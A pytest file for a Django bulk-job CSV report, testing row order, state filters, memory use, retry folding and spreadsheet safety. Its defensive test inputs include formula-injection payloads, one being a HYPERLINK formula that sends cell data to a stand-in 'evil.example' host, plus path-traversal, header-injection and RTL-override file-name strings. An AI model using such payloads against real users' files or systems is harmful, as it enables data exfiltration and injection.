"""The report: every item in input order with what became of it, safe to open, and never more in memory than a page."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from psycopg2.extensions import TRANSACTION_STATUS_IDLE

from bulkops import retention, services
from bulkops.exceptions import InvalidReport, ReportBroken
from bulkops.models import Chunk, Job, Manifest, Outcome
from bulkops.report import INCOMPLETE, STATES, Report, Wanted, cells, columns, file_name, read_states
from bulkops.report import rows as report_rows
from bulkops.states import JobState, OutcomeState
from tests.reports import OURS, as_it_was, parsed, rows, stored, written
from tests.sample.operations import Holding

pytestmark = pytest.mark.django_db

EVERY_FATE = {
    0: {"state": "succeeded", "attempt": 1, "result": {"id": 7}},
    1: {"state": "skipped", "message": "no such account"},
    2: {"state": "failed", "attempt": 3, "error_code": "ValueError", "message": "ValueError: too low"},
    3: {"state": "in_doubt", "error_code": "in-doubt", "message": "cut off"},
    4: {"state": "deferred", "attempt": 2, "error_code": "Passing", "message": "later"},
}


# -- what a row is


def test_every_item_stands_in_input_order_with_its_own_columns_and_its_fate(owner):
    items = [{"code": f"C{n}", "price": n} for n in range(7)]
    job = stored(owner, items, EVERY_FATE, state=JobState.RUNNING)
    found = rows(job)
    assert list(found[0]) == ["position", "code", "price", *OURS[1:]]
    assert [row["position"] for row in found] == [str(n) for n in range(7)]
    assert [row["code"] for row in found] == [f"C{n}" for n in range(7)]
    assert [row["state"] for row in found] == [
        "succeeded",
        "skipped",
        "failed",
        "in_doubt",
        "deferred",
        "unprocessed",
        "unprocessed",
    ]
    assert json.loads(found[0]["result"]) == {"id": 7}
    assert (found[2]["attempts"], found[2]["error_code"], found[2]["message"]) == (
        "3",
        "ValueError",
        "ValueError: too low",
    )
    assert (found[6]["attempts"], found[6]["finished_at"], found[6]["result"]) == ("0", "", "")


def test_moments_are_utc_in_the_form_that_programs_read(owner):
    at = timezone.datetime(2026, 3, 1, 12, 0, 0, 5, tzinfo=timezone.get_fixed_timezone(120))
    job = stored(owner, ["a"], {0: {"state": "succeeded", "finished_at": at}})
    assert rows(job)[0]["finished_at"] == "2026-03-01T10:00:00.000005Z"


def test_items_without_fields_have_one_column(owner):
    found = rows(stored(owner, ["a", 5, True, None, [1, "b"]]))
    assert [row["item"] for row in found] == ["a", "5", "true", "", '[1, "b"]']


def test_a_nested_value_is_json_text(owner):
    (row,) = rows(stored(owner, [{"who": {"name": "Ünal", "ids": [1, 2]}, "none": None, "flag": False}]))
    assert json.loads(row["who"]) == {"name": "Ünal", "ids": [1, 2]}
    assert (row["none"], row["flag"]) == ("", "false")


def test_the_header_is_the_union_of_all_columns_as_they_are_first_seen(owner, settings):
    settings.BULKOPS = {"chunk_items": 2}
    items = [{"b": 1}, {"b": 2}, {"a": 3, "b": 4}, {"c": 5}, {"a": 6}, "plain"]
    found = rows(stored(owner, items))
    assert list(found[0])[1:5] == ["b", "a", "c", "item"]
    assert [(row["b"], row["a"], row["c"], row["item"]) for row in found] == [
        ("1", "", "", ""),
        ("2", "", "", ""),
        ("4", "3", "", ""),
        ("", "", "5", ""),
        ("", "6", "", ""),
        ("", "", "", "plain"),
    ]


def test_column_names_longer_than_a_look_at_the_beginning_are_found(owner):
    item = {f"{n:04d}" + "x" * 50: "v" for n in range(200)}
    assert list(rows(stored(owner, [item]))[0])[1:201] == list(item)


def test_an_input_column_that_is_called_like_one_of_ours_is_told_by_its_prefix(owner):
    item = {"state": "open", "Message": "hi", " result ": "r", "input.state": "s", "job": "j", "item": "i"}
    (row,) = rows(stored(owner, [item]))
    assert row["state"] == "succeeded"
    assert row["message"] == ""
    given = {"input.state": "open", "input.Message": "hi", "input. result ": "r", "input.input.state": "s"}
    assert given | {"input.job": "j", "item": "i"} == {name: row[name] for name in row if name not in OURS}


def test_items_of_too_many_different_fields_are_json_each(owner, monkeypatch):
    monkeypatch.setattr(columns, "MOST", 3)
    found = rows(stored(owner, [{f"field{n}": n} for n in range(5)]))
    assert list(found[0])[:3] == ["position", "item", "state"]
    assert [json.loads(row["item"]) for row in found] == [{f"field{n}": n} for n in range(5)]


def test_a_job_without_items_has_a_header_only(owner):
    assert written(stored(owner, [])) == ",".join(OURS) + "\r\n"


def test_a_job_that_is_still_collecting_says_what_it_has(owner):
    job = stored(owner, ["a", "b"], {}, state=JobState.PREPARING, collects=True)
    Job.objects.filter(pk=job.pk).update(total=None)
    assert [(row["item"], row["state"]) for row in rows(job)] == [("a", "unprocessed"), ("b", "unprocessed")]


def test_a_result_that_was_cut_says_so(owner, settings):
    settings.BULKOPS = {"result_bytes": 100}
    job = stored(owner, ["a"], {0: {"state": "succeeded", "result": {"truncated": "xx", "bytes": 999}}})
    assert json.loads(rows(job)[0]["result"]) == {"truncated": "xx", "bytes": 999}


def test_secrets_among_the_parameters_never_occur(person):
    trusted = person("trusted", "sample.change_account")
    job = services.submit(user=trusted, operation="guarded", items=["a"], params={"token": "hush"})
    assert "hush" not in written(job)


# -- which items


@pytest.mark.parametrize("state", STATES)
def test_a_state_narrows_the_report(owner, settings, state):
    settings.BULKOPS = {"chunk_items": 2}
    job = stored(owner, range(7), EVERY_FATE, state=JobState.RUNNING)
    everything = rows(job)
    assert rows(job, states=frozenset({state})) == [row for row in everything if row["state"] == state]
    assert state in {row["state"] for row in everything}


def test_several_states_may_be_named(owner):
    job = stored(owner, range(7), EVERY_FATE, state=JobState.RUNNING)
    found = rows(job, states=read_states(["failed,in_doubt", "unprocessed", ""]))
    assert [row["position"] for row in found] == ["2", "3", "5", "6"]


def test_what_waited_for_another_try_when_its_job_ended_is_unprocessed(owner):
    job = stored(owner, range(7), EVERY_FATE, state=JobState.CANCELLED)
    found = rows(job, states=frozenset({"unprocessed"}))
    assert [(row["position"], row["attempts"], row["message"]) for row in found] == [
        ("4", "2", "later"),
        ("5", "0", ""),
        ("6", "0", ""),
    ]
    assert rows(job, states=frozenset({"deferred"})) == []


@pytest.mark.parametrize("state", ["nonsense", "Failed", "succeeded;failed", "a\x00b"])
def test_a_state_that_is_none_is_refused_in_words(state):
    with pytest.raises(InvalidReport, match=r"There is no state “.*” of an item. There are succeeded, .*unprocessed"):
        read_states([state])


def test_the_chunks_without_such_items_are_not_read(owner, settings, django_assert_num_queries):
    settings.BULKOPS = {"chunk_items": 10}
    job = stored(owner, range(200), {n: {"state": "failed" if n == 55 else "succeeded"} for n in range(200)})
    report = Report(job, Wanted(states=frozenset({"failed"})))
    with django_assert_num_queries(4):  # chunks, one manifest, one page of outcomes, is the job still there
        assert len(parsed(b"".join(report.blocks()).decode())) == 1


# -- how it is read


@pytest.fixture
def committed(transactional_db):
    """Rows that other connections see; outside any transaction, as a request is."""


def test_queries_grow_with_the_chunks_and_stay_small(owner):
    def queries(count):
        job = stored(owner, range(count))
        with CaptureQueriesContext(connection) as asked:
            assert len(rows(job)) == count
        return len(asked)

    few, more, most = (queries(count) for count in (1_000, 2_000, 5_000))
    a_chunk = 1 + 1_000 // report_rows.PAGE
    assert (more - few, most - few) == (a_chunk, 4 * a_chunk)


@pytest.mark.slow
def test_memory_does_not_grow_with_the_job(owner):
    def peak(job):
        tracemalloc.start()
        try:
            size = sum(len(block) for block in Report(job, Wanted()).blocks())
            return tracemalloc.get_traced_memory()[1], size
        finally:
            tracemalloc.stop()

    item = "x" * 40
    small, large = (stored(owner, (f"{item}{n}" for n in range(count))) for count in (5_000, 50_000))
    peak(small)  # what is read once for the process
    (small_peak, small_size), (large_peak, large_size) = peak(small), peak(large)
    assert large_size > 9 * small_size
    assert large_peak < small_peak * 2
    assert large_peak < large_size / 4


def test_nothing_stays_open_between_two_blocks(committed, owner, monkeypatch):
    monkeypatch.setattr("bulkops.report.document.BLOCK_CHARS", 100)
    job = stored(owner, range(2_500))
    blocks = Report(job, Wanted()).blocks()
    with connection.cursor() as cursor:
        for _ in range(3):
            next(blocks)
            assert connection.connection.get_transaction_status() == TRANSACTION_STATUS_IDLE
            cursor.execute("SELECT count(*) FROM pg_cursors")
            assert cursor.fetchone() == (0,)
    blocks.close()


@pytest.mark.parametrize("how", ["half", "all"])
def test_a_job_that_is_deleted_meanwhile_breaks_the_report_off(committed, owner, how):
    long_ago = timezone.now() - timedelta(days=100)
    job = stored(owner, range(5_000), created_at=long_ago, finished_at=long_ago)
    blocks = Report(job, Wanted()).blocks()
    first = next(blocks)
    if how == "half":  # as far as a run of the night that was interrupted after its first statements
        Job.objects.filter(pk=job.pk).update(pruned_at=timezone.now())
        Outcome.objects.filter(job_id=job.pk, position__gte=3_000).delete()
    else:
        assert retention.prune().jobs == 1
    rest = []
    with pytest.raises(ReportBroken):
        rest.extend(iter(lambda: next(blocks), None))
    assert parsed((first + b"".join(rest)).decode())[-1]["position"] == INCOMPLETE


def test_items_collected_anew_meanwhile_break_the_report_off(owner):
    job = stored(owner, ["a"], {}, state=JobState.PREPARING, collects=True)
    blocks = Report(job, Wanted()).blocks()
    Job.objects.filter(pk=job.pk).update(prepare_epoch=job.prepare_epoch + 1)
    assert INCOMPLETE in next(blocks).decode()
    with pytest.raises(ReportBroken):
        next(blocks)


@pytest.mark.parametrize("gone", ["missing", "damaged"])
def test_items_that_cannot_be_read_break_the_report_off(owner, settings, gone):
    settings.BULKOPS = {"chunk_items": 2}
    job = stored(owner, ["a", "b", "c"])
    blocks = Report(job, Wanted()).blocks()
    second = Manifest.objects.filter(job=job, number=1)
    second.delete() if gone == "missing" else second.update(payload=b"no such thing")
    found = parsed(next(blocks).decode())
    assert [row["position"] for row in found] == ["0", "1", INCOMPLETE]
    with pytest.raises(Exception, match=r"deleted|header check"):
        next(blocks)


# -- safe in a spreadsheet

FORMULAS = [
    '=HYPERLINK("http://evil.example/"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tplain",
    "\rplain",
    "\nplain",
    "  =1+1",
    "\u00a0=1",
    "\u3000＝1",  # noqa: RUF001
    "\ufeff=1",
    "\u200b=1",
    "\u202e=1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠A1",  # noqa: RUF001
    "﹦1",
    "'=1",
    "''@A1",
    "-5 %",
    "+49 30 1",
    "-",
    "=",
    "-1e",
    "-\N{ARABIC-INDIC DIGIT FIVE}",
]
INNER = ["a;=1+1", "a;  @A1", "a\n=1", "a\r\n+1", "a\t-1", "a;'=1", ";＝1"]  # noqa: RUF001
HARMLESS = ["-5", "+3.2e4", "-.5", "+1.", "5", "a=1", "'quoted'", "a,=1", "x - y", "", "a;b", "e-mail@example.org"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_a_formula_is_given_an_apostrophe(text):
    assert cells.safe(text).startswith("'")
    assert as_it_was(cells.safe(text)) == text


@pytest.mark.parametrize("text", INNER)
def test_what_would_begin_one_in_a_spreadsheet_that_splits_the_cell_is_too(text):
    assert cells.safe(text) != text
    assert as_it_was(cells.safe(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_harmless_texts_stay_as_they_are(text):
    assert cells.safe(text) == text


@pytest.mark.parametrize("text", ["a\x00b", "\x1b]0;title\x07", "a\x7f", "\x9b31m"])
def test_control_characters_are_replaced_but_for_programs(owner, text):
    job = stored(owner, [text])
    assert not {"\x00", "\x07", "\x1b", "\x7f", "\x9b"} & set(written(job))
    assert rows(job, raw=True)[0]["item"] == text


HOSTILE = [
    *FORMULAS,
    *INNER,
    'say "hello"',
    "a,b;c\td",
    "two\nlines",
    "two\r\nlines",
    '"',
    '""",',
    "😀 👩‍👩‍👧",
    "שלום \u202eevil\u202c",
    "x" * 33_000,
    "ends with \\",
    " spaces ",
    "null",
]


def test_a_hostile_table_comes_back_cell_by_cell(owner):
    items = [{"=name": text, text[:200]: "value"} for text in HOSTILE]
    told = {
        n: {"state": "failed", "error_code": text[:100], "message": text[:2_000], "result": {"said": text}}
        for n, text in enumerate(HOSTILE)
    }
    job = stored(owner, items, told, state=JobState.COMPLETED_WITH_ERRORS)
    text = written(job)
    table = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert {len(line) for line in table} == {len(table[0])}
    assert not [cell for line in table for cell in line if cells.safe(as_it_was(cell)) != cell]
    found = parsed(text)
    assert [as_it_was(row["'=name"]) for row in found] == HOSTILE
    assert [as_it_was(row["error_code"]) for row in found] == [text[:100] for text in HOSTILE]
    assert [as_it_was(row["message"]) for row in found] == [text[:2_000] for text in HOSTILE]
    assert [json.loads(as_it_was(row["result"]))["said"] for row in found] == HOSTILE
    raw = rows(job, raw=True)
    assert [row["=name"] for row in raw] == HOSTILE
    assert [row[text[:200]] for row, text in zip(raw, HOSTILE, strict=True)] == ["value"] * len(HOSTILE)


def test_the_mark_for_excel_is_written_on_request_only(owner):
    job = stored(owner, ["ä"])
    assert written(job, bom=True) == "\ufeff" + written(job)
    assert not written(job).startswith("\ufeff")


TEXTS = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=12)
CLEAN = st.text(st.characters(exclude_categories=("Cs", "Cc"), include_characters="\t\r\n=;'-"), max_size=12)
VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-(10**20), 10**20) | st.floats(allow_nan=False, allow_infinity=False),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXTS, inner, max_size=3),
    max_leaves=6,
)
AS_OFTEN = settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)


@AS_OFTEN
@given(items=st.lists(st.dictionaries(TEXTS, TEXTS, max_size=4), max_size=12))
def test_rows_of_texts_come_back_to_a_program_as_they_were_given(owner, items):
    found = rows(stored(owner, items), raw=True)
    given = [{name: text for name, text in item.items() if text} for item in items]
    back = []
    for row in found:
        named = {name: text for name, text in row.items() if name not in OURS and text}
        back.append({name.removeprefix("input."): text for name, text in named.items()})
    assert back == given


@AS_OFTEN
@given(items=st.lists(CLEAN, max_size=12))
def test_texts_come_back_from_the_safe_report_too(owner, items):
    assert [as_it_was(row["item"]) for row in rows(stored(owner, items))] == items


@AS_OFTEN
@given(items=st.lists(VALUES.filter(lambda value: value is not None), min_size=1, max_size=8), raw=st.booleans())
def test_values_come_back_as_json(owner, items, raw):
    found = rows(stored(owner, [[item] for item in items]), raw=raw)
    text = json.dumps(items, ensure_ascii=False)
    if raw or not any(127 <= ord(char) < 160 for char in text):
        assert [json.loads(as_it_was(row["item"])) for row in found] == [[item] for item in items]


# -- what became of items in the jobs that retried them


def fold_naively(line):
    """What `folded` promises, by the shortest program that says it. `line`: jobs, each after its parent."""
    last: dict[str, tuple] = {}
    for job, roots in line:
        for row in rows(job):
            root = roots[int(row["position"])]
            attempts, *_ = last.get(root, (0,))
            if int(row["attempts"]):
                told = (row["state"], row["error_code"], row["message"], row["result"], row["finished_at"])
                last[root] = (attempts + int(row["attempts"]), *told, str(job.pk))
    return last


FATE = ("state", "error_code", "message", "result", "finished_at", "job")


def folded(job):
    return [
        (
            int(row["attempts"]),
            *(row[name] for name in ("state", "error_code", "message", "result", "finished_at", "job")),
        )
        for row in rows(job, folded=True)
    ]


NEVER = (0, "unprocessed", "", "", "", "", "")


@pytest.mark.slow
@AS_OFTEN
@given(data=st.data())
def test_the_folded_report_is_that_of_the_last_job_that_tried_each_item(owner, data, settings, monkeypatch):
    settings.BULKOPS = {"chunk_items": data.draw(st.integers(1, 5))}
    monkeypatch.setattr(report_rows, "PAGE", data.draw(st.integers(1, 4)))
    count = data.draw(st.integers(1, 14))
    line = []

    def job(roots, **fields):
        states = [data.draw(st.sampled_from([*OutcomeState.values, None])) for _ in roots]
        told = {
            n: {"state": state, "attempt": data.draw(st.integers(1, 3)), "message": f"{len(line)}-{n}"}
            for n, state in enumerate(states)
            if state
        }
        made = stored(
            owner,
            [f"i{root}" for root in roots],
            told,
            roots=roots if fields else None,
            state=JobState.CANCELLED,
            **fields,
        )
        line.append((made, roots))
        return made

    job(list(range(count)))
    for _ in range(data.draw(st.integers(0, 4))):
        parent, roots = data.draw(st.sampled_from(line))
        taken = {root for child, theirs in line if child.parent_id == parent.pk for root in theirs}
        left = [root for root in roots if root not in taken]
        if left:
            chosen = sorted(data.draw(st.sets(st.sampled_from(left), min_size=1)))
            job(chosen, parent=parent, root=line[0][0])

    for start, roots in line:
        below = [start.pk]
        downward = [(start, roots)]
        for child, theirs in line:
            if child.parent_id in below:
                below.append(child.pk)
                downward.append((child, theirs))
        expected = fold_naively(downward)
        assert folded(start) == [expected.get(root, NEVER) for root in roots]


@pytest.fixture
def failing(monkeypatch):
    """The items that fail, until a test mends them."""
    bad: set = set()

    class Falling(dict):
        def get(self, item, default=None):
            return self._fall if item in bad else default

        @staticmethod
        def _fall(context):
            raise ValueError("not this one")

    monkeypatch.setattr(Holding, "meanwhile", Falling())
    return bad


@pytest.mark.django_db(transaction=True)
def test_retries_that_workers_ran_are_folded_in(owner, worker, failing, settings):
    settings.BULKOPS = {"chunk_items": 3}
    failing |= {"i1", "i4", "i7"}
    first = worker.finish(services.submit(user=owner, operation="holding", items=[f"i{n}" for n in range(8)]))
    failing -= {"i4"}
    second = worker.finish(services.retry(job=first, actor=owner))
    failing -= {"i7"}
    third = worker.finish(services.retry(job=second, actor=owner))
    told = [(row["item"], row["state"], row["attempts"], row["job"]) for row in rows(first, folded=True)]
    fates = {
        "i1": ("failed", "3", third),
        "i4": ("succeeded", "2", second),
        "i7": ("succeeded", "3", third),
    }
    names = [f"i{n}" for n in range(8)]
    assert told == [
        (name, *fates.get(name, ("succeeded", "1", first))[:2], str(fates.get(name, (0, 0, first))[2].pk))
        for name in names
    ]
    # From the middle of the line: downwards, over that job's own items.
    assert [(row["item"], row["state"], row["attempts"]) for row in rows(second, folded=True)] == [
        ("i1", "failed", "2"),
        ("i4", "succeeded", "1"),
        ("i7", "succeeded", "2"),
    ]
    assert [row["item"] for row in rows(first, folded=True, states=frozenset({"failed"}))] == ["i1"]
    assert "job" not in rows(first)[0]


def test_a_child_that_is_still_collecting_changes_nothing(owner):
    job = stored(owner, ["a"], {0: {"state": "failed"}}, state=JobState.COMPLETED_WITH_ERRORS)
    child = stored(owner, ["a"], {}, roots=[0], state=JobState.PREPARING, parent=job, root=job, total=None)
    Chunk.objects.filter(job=child).delete()
    assert [row["state"] for row in rows(job, folded=True)] == ["failed"]


@pytest.mark.slow
def test_folding_a_long_line_needs_no_more_memory(owner):
    def peak(job):
        tracemalloc.start()
        try:
            for _ in Report(job, Wanted(folded=True)).blocks():
                pass
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    def line(count):
        job = stored(owner, range(count))
        child = stored(owner, range(0, count, 2), roots=range(0, count, 2), parent=job, root=job)
        stored(owner, range(0, count, 4), roots=range(0, count, 4), parent=child, root=job)
        return job

    small, large = line(3_000), line(20_000)
    peak(small)
    assert peak(large) < peak(small) * 2  # of nearly seven times as many items


# -- the file's name


@pytest.mark.parametrize(
    ("name", "file"),
    [
        ("Autumn prices", "Autumn prices"),
        ("", "note"),
        ("Grüße: Frühling/2026", "Grüße-Frühling-2026"),
        ("../../etc/passwd", "etc-passwd"),
        ('a"b\r\nX-Evil: 1', "a-b-X-Evil-1"),
        ("\u202egpj.exe", "gpj.exe"),
        ("😀", "report"),
        (".hidden", "hidden"),
        ("x" * 200, "x" * 50),
        ("नमस्ते", "नमस्ते"),
    ],
)
def test_the_files_name_is_the_jobs_without_what_a_file_system_trips_over(name, file):
    job = Job(name=name, operation="note")
    assert file_name(job, Wanted()) == f"{file}-{str(job.pk)[:8]}.csv"


def test_the_files_name_says_what_is_in_it():
    job = Job(operation="note")
    wanted = Wanted(states=frozenset({"unprocessed", "failed"}), folded=True)
    assert file_name(job, wanted).endswith("-failed-unprocessed-with-retries.csv")
